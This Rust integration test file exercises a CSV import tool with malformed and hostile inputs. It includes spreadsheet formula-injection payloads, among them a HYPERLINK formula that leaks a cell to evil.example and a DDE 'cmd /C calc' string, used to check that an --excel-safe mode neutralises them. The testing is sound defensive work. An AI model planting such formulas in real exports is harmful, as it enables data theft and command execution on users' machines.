//! Hostile input: every file of `tests/fixtures/bad/` (and a few generated ones too big to
//! commit) through the real binary against the simulator. Each file either gets per-row
//! `invalid` lines naming the row and column while its good rows are created, or a file-level
//! error (exit 2) naming the file and line with nothing sent: never a panic, never a row missing
//! from the report. Then `--excel-safe` and the retry round trip.

use std::path::Path;

use lsq_sync::simulator::{RunningSimulator, SimConfig};

use crate::support::*;

const LEAD_1: &str = "3aee22bd-8419-422a-8242-c510df9af021";
const LEAD_2: &str = "5b1f0c7e-2d4a-4e0b-9c3d-7a8e6f5d4c3b";
const HEADER: &str = "RelatedProspectId,ActivityEvent,ActivityNote\n";

/// What one data row of a file must come out as.
#[derive(Debug, Clone, Copy)]
enum Row {
    /// Created, and posted with this note.
    Created(&'static str),
    /// Invalid, with an Error containing this.
    Invalid(&'static str),
}

/// What a whole file must come out as.
enum Expect {
    /// One report line per data row, in order.
    Rows(Vec<Row>),
    /// Exit 2 with stderr naming `input.csv` and holding each of these; nothing posted.
    FileError(&'static [&'static str]),
}

use Row::{Created, Invalid};

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/bad")
        .join(format!("{name}.csv"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("fixture {}: {e}", path.display()))
}

/// Imports `bytes` (with a config file holding `config`, if given) into a fresh simulator and
/// checks the outcome against `expect`; every message names the case.
async fn run_case(
    name: &str,
    bytes: &[u8],
    config: Option<&str>,
    expect: Expect,
) -> (Input, RunningSimulator) {
    let sim = simulator(SimConfig {
        accept_any_lead: true,
        ..SimConfig::default()
    })
    .await;
    let input = write_input_bytes(bytes);
    let mut global = Vec::new();
    if let Some(config) = config {
        std::fs::write(input.dir.path().join("case.toml"), config).expect("write config");
        global = vec!["--config", "case.toml"];
    }
    let out = import_into(&sim, &input, &global, &[], &[]).await;
    let err = stderr(&out);
    assert!(
        !err.contains("panicked"),
        "{name}: the binary panicked: {err}"
    );
    match expect {
        Expect::FileError(fragments) => {
            assert_eq!(out.status.code(), Some(2), "{name}: {err}");
            assert!(err.contains("input.csv"), "{name}: names the file: {err}");
            for fragment in fragments {
                assert!(err.contains(fragment), "{name}: {fragment:?} not in: {err}");
            }
            assert!(
                posted_activities(&sim).is_empty(),
                "{name}: nothing is sent"
            );
        }
        Expect::Rows(rows) => {
            let any_invalid = rows.iter().any(|r| matches!(r, Invalid(_)));
            let code = if any_invalid { 1 } else { 0 };
            assert_eq!(out.status.code(), Some(code), "{name}: {err}");
            let report = read_report(&input.report_path());
            assert_eq!(report.len(), rows.len(), "{name}: one line per data row");
            let posted = posted_activities(&sim);
            for (i, (line, want)) in report.iter().zip(&rows).enumerate() {
                let n = i + 1;
                assert_eq!(line["RowNumber"], n.to_string(), "{name}: rows in order");
                match *want {
                    Created(note) => {
                        assert_eq!(line["Status"], "created", "{name} row {n}: {line:?}");
                        let activity = posted
                            .iter()
                            .find(|a| a.id == line["ProspectActivityId"])
                            .unwrap_or_else(|| panic!("{name} row {n}: not on the server"));
                        assert_eq!(activity.note.as_deref(), Some(note), "{name} row {n}");
                    }
                    Invalid(error) => {
                        assert_eq!(line["Status"], "invalid", "{name} row {n}: {line:?}");
                        assert!(
                            line["Error"].contains(error),
                            "{name} row {n}: {error:?} not in {:?}",
                            line["Error"]
                        );
                    }
                }
            }
            let created = rows.iter().filter(|r| matches!(r, Created(_))).count();
            assert_eq!(
                posted.len(),
                created,
                "{name}: exactly the good rows are posted"
            );
        }
    }
    (input, sim)
}

/// One test per fixture file, named after it.
macro_rules! fixture_cases {
    ($($name:ident => $expect:expr;)*) => {$(
        #[tokio::test(flavor = "multi_thread")]
        async fn $name() {
            let name = stringify!($name);
            run_case(name, &fixture(name), None, $expect).await;
        }
    )*};
}

fixture_cases! {
    empty => Expect::FileError(&["input.csv: the file is empty"]);
    header_only => Expect::Rows(vec![]);
    latin1 => Expect::Rows(vec![
        Created("good 1"),
        Invalid("ActivityNote: the cell is not valid UTF-8 text (byte 4 of the cell"),
        Created("good 3"),
    ]);
    nul_bytes => Expect::Rows(vec![
        Created("good 1"),
        Invalid("ActivityNote: the cell holds a NUL character"),
        Created("good 3"),
    ]);
    ragged => Expect::Rows(vec![
        Created("good 1"),
        Invalid("the row has 2 fields but the header has 3 (line 3)"),
        Invalid("the row has 4 fields but the header has 3 (line 4)"),
        Created("good 4"),
    ]);
    duplicate_header => Expect::FileError(&[
        "line 1 (the header): column ActivityNote appears twice (columns 3 and 4)",
    ]);
    duplicate_extra_header => Expect::Rows(vec![Created("good 1"), Created("good 2")]);
    // Found by the fuzz target: a multi-byte character where `mx_custom_` would end panicked.
    multibyte_header => Expect::Rows(vec![Created("good 1")]);
    unbalanced_quote => Expect::FileError(&[
        "a quote opened in the row starting at line 3 is never closed",
    ]);
    crlf_mixed_lf => Expect::Rows(vec![
        Created("good 1"),
        Created("good 2"),
        Created("good 3 spans\r\ntwo lines"),
        Created("good 4"),
    ]);
    event_codes => Expect::Rows(vec![
        Created("good 1"),
        Invalid("ActivityEvent: \"201.0\" is not an activity code"),
        Invalid("ActivityEvent: \"-5\" is not an activity code"),
        Invalid("ActivityEvent: \"1e3\" is not an activity code"),
        Created("good 5"),
    ]);
    // ISO 8601 with `Z` is a UTC time like any other; 30 February is no date at all.
    dates => Expect::Rows(vec![
        Created("good 1"),
        Invalid("ActivityDateTime: \"2020-02-30 10:00:00\" is not a real date"),
        Created("iso z"),
        Created("good 4"),
    ]);
}

#[tokio::test(flavor = "multi_thread")]
async fn bom_is_stripped_from_the_first_column_name() {
    let (input, _sim) = run_case(
        "bom",
        &fixture("bom"),
        None,
        Expect::Rows(vec![Created("good 1"), Created("good 2")]),
    )
    .await;
    let report = read_report(&input.report_path());
    assert_eq!(report[0]["RelatedProspectId"], LEAD_1);
}

#[tokio::test(flavor = "multi_thread")]
async fn invalid_utf8_fails_only_where_it_is_sent_and_is_carried_back_as_read() {
    let (input, _sim) = run_case(
        "invalid_utf8",
        &fixture("invalid_utf8"),
        None,
        Expect::Rows(vec![
            Created("good 1"),
            Invalid("ActivityNote: the cell is not valid UTF-8 text"),
            Created("good 3"),
        ]),
    )
    .await;
    let report = std::fs::read(input.report_path()).expect("report");
    assert!(
        report.windows(4).any(|w| w == b"\xC3( n") && report.windows(3).any(|w| w == b"\xFF\xFE "),
        "the report carries the bytes as read"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn guids_in_braces_upper_case_or_without_hyphens_are_normalised() {
    let (input, sim) = run_case(
        "guid_braces_upper",
        &fixture("guid_braces_upper"),
        None,
        Expect::Rows(vec![
            Created("braces"),
            Created("upper"),
            Created("both"),
            Created("no hyphens"),
            Invalid(
                "RelatedProspectId: \"3aee22bd-8419-422a-8242-c510df9af021x\" is not a lead id",
            ),
        ]),
    )
    .await;
    let mut leads: Vec<String> = posted_activities(&sim)
        .into_iter()
        .map(|a| a.lead_id)
        .collect();
    leads.sort();
    assert_eq!(leads, [LEAD_1, LEAD_1, LEAD_1, LEAD_2]);
    let report = read_report(&input.report_path());
    assert_eq!(
        report[0]["RelatedProspectId"],
        format!("{{{LEAD_1}}}"),
        "report keeps the cell as read"
    );
}

const FORMULA_NOTE: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

#[tokio::test(flavor = "multi_thread")]
async fn formula_cells_are_posted_and_reported_unchanged_by_default() {
    let (input, _sim) = run_case(
        "formula_cells",
        &fixture("formula_cells"),
        None,
        Expect::Rows(vec![
            Created(FORMULA_NOTE),
            Created("+cmd|' /C calc'!A0"),
            Created("@SUM(1+1)"),
            Created("\tleading tab"),
        ]),
    )
    .await;
    let report = read_report(&input.report_path());
    assert_eq!(report[0]["ActivityNote"], FORMULA_NOTE);
    assert_eq!(report[3]["Amount"], "'=quoted");
}

/// `HEADER`, a good row, a row whose note is `note`, a good row.
fn good_bad_good(note: &str) -> Vec<u8> {
    format!("{HEADER}{LEAD_1},201,good 1\n{LEAD_1},201,{note}\n{LEAD_2},201,good 3\n").into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_10_mb_cell_stops_the_file_at_its_line_before_it_is_all_in_memory() {
    run_case(
        "10 MB cell",
        &good_bad_good(&"x".repeat(10_000_000)),
        None,
        Expect::FileError(&[
            "the row starting at line 3 is longer than 4194304 bytes",
            "max_row_bytes",
        ]),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cell_over_the_cell_limit_makes_only_its_row_invalid() {
    run_case(
        "2 MB cell",
        &good_bad_good(&"x".repeat(2_000_000)),
        None,
        Expect::Rows(vec![
            Created("good 1"),
            Invalid("ActivityNote: the cell is 2000000 bytes, more than the limit of 1048576"),
            Created("good 3"),
        ]),
    )
    .await;
    run_case(
        "cell limit from the config file",
        &good_bad_good("eleven char"),
        Some("[input]\nmax_cell_bytes = 10\n"),
        Expect::Rows(vec![
            Invalid("RelatedProspectId: the cell is 36 bytes, more than the limit of 10"),
            Invalid("RelatedProspectId: the cell is 36 bytes"),
            Invalid("RelatedProspectId: the cell is 36 bytes"),
        ]),
    )
    .await;
}

/// A header of `columns` columns (the three known ones first) and rows of `widths` fields.
fn wide_file(columns: usize, widths: &[usize]) -> Vec<u8> {
    let mut text = String::from("RelatedProspectId,ActivityEvent,ActivityNote");
    for c in 4..=columns {
        text.push_str(&format!(",C{c}"));
    }
    text.push('\n');
    for (i, width) in widths.iter().enumerate() {
        text.push_str(&format!("{LEAD_1},201,wide {}", i + 1));
        text.push_str(&",v".repeat(width - 3));
        text.push('\n');
    }
    text.into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn ten_thousand_columns_are_read_and_the_column_limit_is_enforced() {
    let file = wide_file(10_000, &[10_000, 9_999, 10_000]);
    let (input, _sim) = run_case(
        "10,000 columns",
        &file,
        None,
        Expect::Rows(vec![
            Created("wide 1"),
            Invalid("the row has 9999 fields but the header has 10000 (line 3)"),
            Created("wide 3"),
        ]),
    )
    .await;
    let report = read_report(&input.report_path());
    assert_eq!(
        report[2]["C10000"], "v",
        "every column is carried into the report"
    );
    run_case(
        "10,000 columns over a limit of 5,000",
        &file,
        Some("[input]\nmax_columns = 5000\n"),
        Expect::FileError(&["line 1: the header has 10000 columns, more than the limit of 5000"]),
    )
    .await;
}

/// Rows 2 and 3 have a broken event code, so the first import leaves them invalid for retry.
const EXCEL_INPUT: &str = "RelatedProspectId,ActivityEvent,ActivityNote,Amount\n\
    3aee22bd-8419-422a-8242-c510df9af021,201,\"=HYPERLINK(\"\"http://evil.example/1\"\",\"\"x\"\")\",-5\n\
    3aee22bd-8419-422a-8242-c510df9af021,2O1,\"=HYPERLINK(\"\"http://evil.example/2\"\",\"\"y\"\")\",@risk\n\
    5b1f0c7e-2d4a-4e0b-9c3d-7a8e6f5d4c3b,2O1,'=already quoted,-2+3\n";

#[tokio::test(flavor = "multi_thread")]
async fn excel_safe_prefixes_formulas_and_retry_posts_the_original_values() {
    let sim = simulator(SimConfig {
        accept_any_lead: true,
        ..SimConfig::default()
    })
    .await;
    let input = write_input(EXCEL_INPUT);
    let out = import_into(&sim, &input, &[], &["--excel-safe"], &[]).await;
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = read_report(&input.report_path());
    let cells: Vec<(&str, &str)> = report
        .iter()
        .map(|r| (r["ActivityNote"].as_str(), r["Amount"].as_str()))
        .collect();
    assert_eq!(
        cells,
        [
            ("'=HYPERLINK(\"http://evil.example/1\",\"x\")", "-5"),
            ("'=HYPERLINK(\"http://evil.example/2\",\"y\")", "'@risk"),
            ("''=already quoted", "'-2+3"),
        ],
        "formulas prefixed, plain numbers left alone, an existing ' kept reversible"
    );
    assert_eq!(
        posted_activities(&sim)[0].note.as_deref(),
        Some("=HYPERLINK(\"http://evil.example/1\",\"x\")"),
        "the prefix is only in the report"
    );

    // The person fixes the event codes in the report and retries it.
    let report_path = input.report_path();
    let text = std::fs::read_to_string(&report_path).expect("report");
    std::fs::write(&report_path, text.replace(",2O1,", ",201,")).expect("edit report");
    let url = sim.base_url();
    let args = [
        "retry",
        "report.csv",
        "--out",
        "report-2.csv",
        "--host",
        &url,
        "--excel-safe",
    ];
    let out = run_cli(input.dir.path(), &args, &[]).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let mut notes: Vec<String> = posted_activities(&sim)
        .into_iter()
        .filter_map(|a| a.note)
        .collect();
    notes.sort();
    assert_eq!(
        notes,
        [
            "'=already quoted",
            "=HYPERLINK(\"http://evil.example/1\",\"x\")",
            "=HYPERLINK(\"http://evil.example/2\",\"y\")",
        ],
        "retry re-posts the values first read, not the prefixed ones"
    );
    let second = input.dir.path().join("report-2.csv");
    let rows = read_report(&second);
    assert!(rows.iter().all(|r| r["Status"] == "created"), "{rows:?}");
    assert_eq!(
        rows[1]["ActivityNote"],
        "'=HYPERLINK(\"http://evil.example/2\",\"y\")"
    );

    // The report command writes the same, from the ledger.
    let args = [
        "report",
        "report-2.csv.ledger",
        "--out",
        "again.csv",
        "--excel-safe",
    ];
    let out = run_cli(input.dir.path(), &args, &[]).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(input.dir.path().join("again.csv")).expect("again"),
        std::fs::read(&second).expect("report-2")
    );
}
